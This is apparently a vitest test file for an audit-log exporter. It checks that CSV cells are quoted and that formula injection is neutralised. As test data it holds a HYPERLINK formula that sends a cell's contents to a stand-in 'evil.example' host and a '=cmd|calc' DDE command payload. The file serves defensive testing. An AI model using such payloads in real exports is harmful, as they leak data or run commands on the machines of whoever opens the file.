import { expect, test } from 'vitest';
import type { AuditEntryType } from './audit.type.ts';
import { AUDIT_FORMATS, cell } from './formats.ts';

test.for<[string, string]>([
  ['plain', '"plain"'],
  ['', '""'],
  ['Rain, at "Night"', '"Rain, at ""Night"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['=HYPERLINK("http://evil.example?"&A1)', '"\'=HYPERLINK(""http://evil.example?""&A1)"'],
  ['+1', '"\'+1"'],
  ['-2+3', '"\'-2+3"'],
  ['@SUM(A1)', '"\'@SUM(A1)"'],
  ['\t=1', '"\'\t=1"'],
  ['  =1', '"\'  =1"'],
  ['\r=1', '"\'\r=1"'],
  ['＝1', '"\'＝1"'],
  ['மழை = rain', '"மழை = rain"'],
])('the cell %j is written as %j', ([text, written]) => {
  expect(cell(text)).toBe(written);
});

const entry: AuditEntryType = {
  id: '018f0000-0000-7000-8000-000000000001',
  at: new Date('2026-11-22T23:00:00Z'),
  actor: { kind: 'key', id: 'k1', personId: 'p1', name: '=cmd|calc', keyName: 'Nightly, "the" job' },
  action: 'project.created',
  noun: 'project',
  nounId: 'p7',
  address: null,
  details: [{ name: 'title', value: 'Rain\nat night' }],
};

test('a row has as many cells as the head, and what was said comes out of a reader of RFC 4180 as it was', () => {
  const { head, line } = AUDIT_FORMATS.csv;
  const [columns, row] = [head.replace('\uFEFF', ''), line(entry)].map(readCsv);
  expect(columns).toHaveLength(row!.length);
  const read = Object.fromEntries(columns!.map((name, at) => [name, row![at]]));
  expect(read).toMatchObject({
    at: '2026-11-22T23:00:00.000Z',
    actor: "'=cmd|calc",
    key: 'Nightly, "the" job',
    address: '',
    details: 'title: Rain\nat night',
  });
});

test('a JSON line is one line', () => {
  const line = AUDIT_FORMATS.jsonl.line(entry);
  expect(line.trimEnd()).not.toContain('\n');
  expect(JSON.parse(line)).toMatchObject({
    action: 'project.created',
    details: { title: 'Rain\nat night' },
    actor: { keyName: 'Nightly, "the" job' },
  });
});

/** One record, by the letter of RFC 4180. */
function readCsv(text: string): string[] {
  const cells = [...text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/gy)];
  expect(cells.map(([whole]) => whole).join('')).toBe(text);
  return cells.map(([, inside]) => inside!.replaceAll('""', '"'));
}
